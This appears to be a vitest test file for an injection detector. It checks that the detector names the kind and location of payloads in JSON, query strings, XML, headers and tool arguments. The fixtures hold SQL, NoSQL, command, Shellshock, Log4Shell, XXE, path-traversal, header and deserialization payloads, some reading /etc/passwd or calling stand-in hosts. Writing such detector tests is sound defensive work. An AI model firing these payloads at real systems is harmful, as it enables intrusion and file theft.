import { expect, test } from 'vitest';
import { createInjectionDetector, kindByName, kindBySchema, type SchemaHint } from './index.ts';

const detector = createInjectionDetector();

test.each([
  ['{"a":{"b":["x","1 or 1=1"]}}', 'sql', '/a/b/1'],
  ['{"filter":{"$where":"this.a==1"}}', 'nosql', '/filter/$where'],
  ['{"user":{"name":{"$ne":null}}}', 'nosql', '/user/name/$ne'],
  ['{"a":"\\u0027 or \\u00271\\u0027=\\u00271"}', 'sql', '/a'],
  ['{"a":"{\\"b\\":\\"; cat /etc/passwd\\"}"}', 'command', '/a/b'],
  ['{"x/y":{"z~":"{{7*7}}"}}', 'template', '/x~1y/z~0'],
  ['{"\' or 1=1--":1}', 'sql', "/' or 1=1--"],
  ['{"__proto__":{"a":1}}', 'deserialization', '/__proto__'],
  ['{"@type":"com.sun.rowset.JdbcRowSetImpl"}', 'deserialization', '/@type'],
  ['[["<script>alert(1)</script>"]]', 'xss', '/0/0'],
  ['"1 or 1=1"', 'sql', ''],
])('names place and kind in %s', (json, kind, pointer) => {
  expect(detector.inspectJson(Buffer.from(json))[0]).toMatchObject({ kind, pointer, in: 'body' });
});

test.each([
  ['username=a&password[$ne]=1', 'nosql', '/password[$ne]'],
  ['a=1&b=1%27%20or%201=1--', 'sql', '/b'],
  ['a[b][c]=..%252f..%252fetc%252fpasswd', 'path-traversal', '/a[b][c]'],
  ['filter={"$where":"1"}', 'nosql', '/filter/$where'],
  ['x=a%0d%0aSet-Cookie:%20b=c', 'header', '/x'],
  ['__proto__[admin]=1', 'deserialization', '/__proto__[admin]'],
])('finds it in the query %s', (query, kind, pointer) => {
  expect(detector.inspectForm('query', query)[0]).toMatchObject({ kind, pointer, in: 'query' });
});

test.each([
  ['<a><b>1 or 1=1</b></a>', 'sql', '/a/b'],
  ['<a x="$(curl http://a.example)"/>', 'command', '/a/@x'],
  ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'xxe', ''],
  ['<a><![CDATA[<script>alert(1)</script>]]></a>', 'xss', '/a'],
])('finds it in the XML %s', (xml, kind, pointer) => {
  expect(detector.inspectXml(xml)[0]).toMatchObject({ kind, pointer });
});

test('looks at headers that an application reads and leaves those of HTTP itself', () => {
  const found = detector.inspectHeaders([
    'Authorization',
    'Basic $(id)',
    'X-User',
    "' or 1=1--",
    'X-Api',
    '${jndi:ldap://x.example/a}',
    'User-Agent',
    '() { :;}; /bin/id',
  ]);
  expect(found.map(({ kind, pointer }) => [kind, pointer])).toEqual([
    ['sql', '/x-user'],
    ['template', '/x-api'],
    ['command', '/user-agent'],
  ]);
});

test('a schema decides what a field may hold', () => {
  const schemas: Record<string, SchemaHint> = {
    '/id': { type: 'integer' },
    '/note': { type: 'string', format: 'markdown' },
    '/callback': { type: 'string', format: 'uri' },
    '/code': { type: 'string', maxLength: 20 },
  };
  const schema = (_place: string, tokens: readonly string[]): SchemaHint | undefined => schemas[`/${tokens.join('/')}`];
  const body = Buffer.from(
    JSON.stringify({
      id: '1 or 1=1',
      note: '<script>alert(1)</script>',
      callback: 'http://10.0.0.1/',
      code: '1 or 1=1',
    }),
  );
  const pointers = (enforced: boolean): string[] =>
    detector.inspectJson(body, { schema, enforced }).map(({ pointer }) => pointer);
  expect(pointers(true)).toEqual(['/callback', '/code']);
  // A schema that nobody enforces excuses nothing.
  expect(pointers(false)).toEqual(['/id', '/callback', '/code']);
});

test('a described operator is a field like any other', () => {
  const body = Buffer.from('{"query":{"$and":[]}}');
  expect(detector.inspectJson(body)).toHaveLength(1);
  expect(detector.inspectJson(body, { schema: () => ({ type: 'array' }) })).toEqual([]);
});

test('arguments of a tool are looked at as parsed values', () => {
  const found = detector.inspectTree({ path: '../../etc/passwd', note: 'fine' }, { pointer: '/arguments' });
  expect(found).toMatchObject([{ kind: 'path-traversal', pointer: '/arguments/path' }]);
});

test.each([
  ['commitMessage', 'free'],
  ['html-body', 'free'],
  ['webhook_url', 'url'],
  ['customerId', 'term'],
  ['jql', 'query'],
  ['filePath', 'path'],
  ['next_cursor', 'encoded'],
  ['frobnicate', 'plain'],
])('%s is a %s field', (name, kind) => {
  expect(kindByName(name)).toBe(kind);
});

test('a rigid schema makes a field inert only when it is enforced', () => {
  expect(kindBySchema({ type: 'string', format: 'uuid' }, 'x', true)).toBe('inert');
  expect(kindBySchema({ type: 'string', format: 'uuid' }, 'x', false)).toBe('term');
});
